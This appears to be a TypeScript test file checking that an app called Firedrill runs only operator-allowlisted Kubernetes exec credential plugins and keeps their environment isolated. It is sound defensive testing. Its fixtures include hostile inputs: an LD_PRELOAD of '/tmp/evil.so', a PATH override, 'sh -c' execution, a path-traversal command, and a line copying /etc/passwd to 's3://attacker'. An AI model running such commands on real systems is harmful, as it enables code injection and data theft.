// Exec credential plugins end to end, with the operator's allowlist set: an
// allowed plugin authenticates against a local API server; its exec.env
// reaches only the plugin (never Firedrill's process.env), Firedrill's own
// secrets stay out of the plugin's environment; a plugin not on the list, or
// one taken off it after the connection was saved, never runs.
import fs from "node:fs";
import path from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from "vitest";
import { connect, kubeconfigFor, scratch, startFakeApiserver, thrown, writePlugin, type FakeApiserver } from "./fake-apiserver.test-support";
import { parseKubeconfig } from "./kubeconfig";

const dir = scratch("firedrill-exec-");
const plugin = writePlugin(dir);
let api: FakeApiserver;
const V1 = "client.authentication.k8s.io/v1";

beforeAll(async () => {
  api = await startFakeApiserver(dir);
});
afterEach(() => vi.unstubAllEnvs());
afterAll(async () => {
  await api.close();
  fs.rmSync(dir, { recursive: true, force: true });
});

const lastAuthorization = () => api.seen.at(-1)?.headers.authorization;

describe("exec credential plugins the operator allows", () => {
  it("runs an allowed plugin (no shell) and sends the token it prints", async () => {
    vi.stubEnv("FIREDRILL_KUBECONFIG_EXEC_COMMANDS", plugin);
    const text = kubeconfigFor(api, { exec: { apiVersion: V1, command: plugin, args: ["first"] } });
    expect(parseKubeconfig(text).currentContext).toBe("ctx");
    expect(await connect(text)).toBe("v1.33.0-fake");
    expect(lastAuthorization()).toBe("Bearer plugin:first:unset:none");
  });

  it("passes allowed exec.env to the plugin only, never into process.env, and keeps Firedrill's secrets from it", async () => {
    vi.stubEnv("FIREDRILL_KUBECONFIG_EXEC_COMMANDS", plugin);
    vi.stubEnv("FIREDRILL_KUBECONFIG_EXEC_ENV", "PLUGIN_REGION");
    vi.stubEnv("FIREDRILL_SECRET_KEY", "the-installation-master-key");
    const text = kubeconfigFor(api, { exec: { apiVersion: V1, command: plugin, args: ["second"], env: [{ name: "PLUGIN_REGION", value: "eu-west-1" }] } });
    expect(await connect(text)).toBe("v1.33.0-fake");
    expect(lastAuthorization()).toBe("Bearer plugin:second:eu-west-1:none");
    expect(process.env.PLUGIN_REGION).toBeUndefined();
  });

  it("refuses exec.env names the operator did not list, and never those that change what runs", async () => {
    vi.stubEnv("FIREDRILL_KUBECONFIG_EXEC_COMMANDS", plugin);
    vi.stubEnv("FIREDRILL_KUBECONFIG_EXEC_ENV", "PATH,LD_PRELOAD");
    const text = kubeconfigFor(api, { exec: { apiVersion: V1, command: plugin, env: [{ name: "PLUGIN_REGION", value: "x" }, { name: "PATH", value: dir }, { name: "LD_PRELOAD", value: "/tmp/evil.so" }] } });
    const error = await thrown(() => parseKubeconfig(text));
    expect(error?.fieldErrors?.kubeconfig).toMatch(/PLUGIN_REGION, which the operator has not allowed. To allow it, add PLUGIN_REGION to FIREDRILL_KUBECONFIG_EXEC_ENV/);
    expect(error?.fieldErrors?.kubeconfig).toMatch(/sets PATH, which changes what program runs.*no setting allows it/);
    expect(error?.fieldErrors?.kubeconfig).toMatch(/sets LD_PRELOAD/);
    expect(process.env.PLUGIN_REGION).toBeUndefined();
  });

  it("refuses a plugin not on the list, a shell, and an allowed plugin with other arguments; none of them runs", async () => {
    vi.stubEnv("FIREDRILL_KUBECONFIG_EXEC_COMMANDS", `${plugin} eks get-token,sh`);
    const marker = path.join(dir, "ran");
    const hostile = [
      { command: "touch", args: [marker] },
      { command: "sh", args: ["-c", `touch ${marker}`] },
      { command: `${dir}/../${path.basename(dir)}/cred-plugin`, args: ["eks", "get-token"] },
      { command: plugin, args: ["s3", "cp", "/etc/passwd", "s3://attacker"] },
    ];
    for (const exec of hostile) {
      const text = kubeconfigFor(api, { exec: { apiVersion: V1, ...exec } });
      expect((await thrown(() => parseKubeconfig(text)))?.fieldErrors?.kubeconfig, exec.command).toMatch(/User "attacker": the exec/);
      expect(await thrown(() => connect(text))).toMatchObject({ code: "FORBIDDEN" });
    }
    expect(fs.existsSync(marker)).toBe(false);
    const allowed = kubeconfigFor(api, { exec: { apiVersion: V1, command: plugin, args: ["eks", "get-token", "--cluster-name", "prod"] } });
    expect(await connect(allowed)).toBe("v1.33.0-fake");
    expect(lastAuthorization()).toBe("Bearer plugin:eks:unset:none");
  });

  it("stops a saved connection's plugin once the operator takes it off the list", async () => {
    vi.stubEnv("FIREDRILL_KUBECONFIG_EXEC_COMMANDS", plugin);
    const text = kubeconfigFor(api, { exec: { apiVersion: V1, command: plugin, args: ["third"] } });
    parseKubeconfig(text); // accepted when pasted
    vi.stubEnv("FIREDRILL_KUBECONFIG_EXEC_COMMANDS", "");
    const before = api.seen.length;
    const error = await thrown(() => connect(text));
    expect(error).toMatchObject({ code: "FORBIDDEN" });
    expect(error?.message).toMatch(/stored kubeconfig is refused.*not set, so no credential plugin may run/);
    expect(api.seen.length).toBe(before);
  });

  it("says clearly when the plugin fails, without echoing its output", async () => {
    const failing = path.join(dir, "failing-plugin");
    fs.writeFileSync(failing, "#!/bin/sh\necho 'secret-ish output' >&2\nexit 3\n", { mode: 0o755 });
    vi.stubEnv("FIREDRILL_KUBECONFIG_EXEC_COMMANDS", failing);
    const warn = vi.spyOn(console, "warn").mockImplementation(() => undefined);
    const error = await thrown(() => connect(kubeconfigFor(api, { exec: { apiVersion: V1, command: failing } })));
    expect(error).toMatchObject({ code: "DEPENDENCY_FAILED", message: expect.stringMatching(/"[^"]*failing-plugin" failed \(exit code 3\)/) });
    expect(error?.message).not.toContain("secret-ish");
    expect(warn).toHaveBeenCalled();
    warn.mockRestore();
  });
});
